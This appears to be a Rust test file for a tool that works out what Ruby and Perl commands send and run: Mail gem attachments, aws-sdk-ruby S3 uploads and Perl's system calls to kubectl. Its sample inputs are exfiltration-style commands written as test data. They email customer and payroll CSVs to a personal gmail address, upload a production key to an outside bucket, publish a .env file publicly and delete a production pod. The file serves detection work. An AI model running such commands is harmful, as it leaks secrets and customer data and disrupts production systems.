//! Ruby and Perl programs whose libraries say what they send and run:
//! the Mail gem's attachments, aws-sdk-ruby's resource chain
//! (`bucket(B).object(K).upload_file(P)`, `.put(body: ...)`) and Perl's
//! Getopt::Long options and the arrays handed to `system`. Run in
//! `/home/dana/acme-web` with home `/home/dana`.

#![allow(clippy::panic)]

use serde_json::{Value, json};

use crate::common;
use common::*;

/// One file a payload carries.
fn file(relative: &str) -> Value {
    json!({"path": at(relative), "recursive": false})
}

#[test]
fn mail_gem_messages_carry_the_files_they_attach() {
    let found = effects(
        "ruby -rmail -e 'Mail.deliver do\n  from \"dana@acme.example\"\n  to \"dana.home@gmail.com\"\n  subject \"export\"\n  add_file \"exports/customers.csv\"\nend'",
    );
    let messages = of_kind(&found, "message");
    assert_eq!(messages.len(), 1, "{found:?}");
    assert_eq!(
        messages[0]["recipients"],
        json!(["dana@acme.example", "dana.home@gmail.com"])
    );
    assert_eq!(
        messages[0]["payload"]["files"],
        json!([file("exports/customers.csv")])
    );
    // A message built, then delivered, attaching by method call.
    let found = effects(
        "ruby -rmail -e 'm = Mail.new do\n  to \"x@gmail.com\"\nend\nm.add_file(\"data/payroll.csv\")\nm.deliver!'",
    );
    let messages = of_kind(&found, "message");
    assert_eq!(messages.len(), 1, "{found:?}");
    assert_eq!(
        messages[0]["payload"]["files"],
        json!([file("data/payroll.csv")])
    );
    // An attachment given by name and content names no file read.
    let found = effects(
        "ruby -rmail -e 'Mail.deliver do\n  to \"x@gmail.com\"\n  add_file filename: \"report.csv\", content: \"a,b\"\nend'",
    );
    assert_eq!(
        of_kind(&found, "message")[0]["payload"]["files"],
        json!([]),
        "{found:?}"
    );
}

#[test]
fn aws_ruby_resource_chains_upload_to_their_object() {
    let found = effects(
        "ruby -raws-sdk-s3 -e 'Aws::S3::Resource.new(region: \"eu-west-1\").bucket(\"someone-backups\").object(\"acme/prod.key\").upload_file(\"config/prod.key\")'",
    );
    let requests = of_kind(&found, "request");
    assert_eq!(requests.len(), 1, "{found:?}");
    assert_eq!(requests[0]["method"], "UPLOAD");
    assert_eq!(
        requests[0]["target"],
        json!({"kind": "url", "url": "s3://someone-backups/acme/prod.key"})
    );
    assert_eq!(
        requests[0]["payload"]["files"],
        json!([file("config/prod.key")])
    );
    // `put` with a body read from a file and a public ACL.
    let found = effects(
        "ruby -raws-sdk-s3 -e 's3 = Aws::S3::Resource.new\ns3.bucket(\"pub-drop\").object(\"x/.env\").put(body: File.read(\".env\"), acl: \"public-read\")'",
    );
    let requests = of_kind(&found, "request");
    assert_eq!(requests.len(), 1, "{found:?}");
    assert_eq!(
        requests[0]["target"],
        json!({"kind": "url", "url": "s3://pub-drop/x/.env"})
    );
    assert_eq!(requests[0]["payload"]["files"], json!([file(".env")]));
    assert!(
        found.contains(&make_public(bucket("s3", "pub-drop"))),
        "{found:?}"
    );
    // A `put` on no S3 object is no upload.
    let found = effects("ruby -e 'cache.put(body: File.read(\"a.txt\"))'");
    assert!(of_kind(&found, "request").is_empty(), "{found:?}");
}

const RESTART: &str = "#!/usr/bin/env perl\nuse strict;\nuse Getopt::Long;\n\nmy ($context, $deployment, $namespace) = (\"\", \"\", \"billing\");\nGetOptions(\n    \"context=s\"    => \\$context,\n    \"deployment=s\" => \\$deployment,\n    \"namespace|n=s\" => \\$namespace,\n    \"dry-run!\"     => \\my $dry,\n) or die \"usage\\n\";\n\nmy @cmd = (\"kubectl\", \"--context\", $context, \"-n\", $namespace,\n           \"rollout\", \"restart\", \"deployment/$deployment\");\nsystem(@cmd) == 0 or die \"kubectl failed\\n\";\n";

#[test]
fn getopt_long_options_reach_the_commands_a_perl_script_runs() {
    let restart = |context: &str, namespace: &str, deployment: &str| {
        kubectl(
            "rollout",
            &["restart", &format!("deployment/{deployment}")],
            Some(context),
            Some(namespace),
            &[],
            false,
            false,
        )
    };
    let found = after_files(
        &[("scripts/restart.pl", RESTART)],
        "perl scripts/restart.pl --context prod-eu --deployment invoice-worker",
    );
    assert_eq!(
        of_kind(&found, "kubectl"),
        [restart("prod-eu", "billing", "invoice-worker")]
    );
    // Joined values, an alias, a single dash and a negated flag.
    let found = after_files(
        &[("scripts/restart.pl", RESTART)],
        "perl scripts/restart.pl -context=prod-us -n jobs --deployment=w --no-dry-run",
    );
    assert_eq!(
        of_kind(&found, "kubectl"),
        [restart("prod-us", "jobs", "w")]
    );
    // An abbreviation Getopt::Long would take is not read: the command's
    // context stays unknown.
    let found = after_files(
        &[("scripts/restart.pl", RESTART)],
        "perl scripts/restart.pl --cont prod-eu --deployment w",
    );
    assert!(
        of_kind(&found, "kubectl")
            .iter()
            .all(|k| k["context"] != "prod-eu"),
        "{found:?}"
    );
}

#[test]
fn perl_system_of_an_array_runs_its_list() {
    let found = effects(
        "perl -e 'my @cmd = (\"kubectl\", \"--context\", \"prod-eu\", \"delete\", \"pod\", \"p1\");\nsystem(@cmd);'",
    );
    assert_eq!(of_kind(&found, "kubectl").len(), 1, "{found:?}");
    assert_eq!(of_kind(&found, "kubectl")[0]["context"], "prod-eu");
    // An array changed after it is assigned is left as written.
    let found = effects(
        "perl -e 'my @cmd = (\"kubectl\", \"get\", \"pods\");\npush @cmd, \"--context\", $ENV{CTX};\nsystem(@cmd);'",
    );
    assert!(
        of_kind(&found, "kubectl")
            .iter()
            .all(|k| k["args"] != json!(["pods"]) || k["context"].is_null()),
        "{found:?}"
    );
}
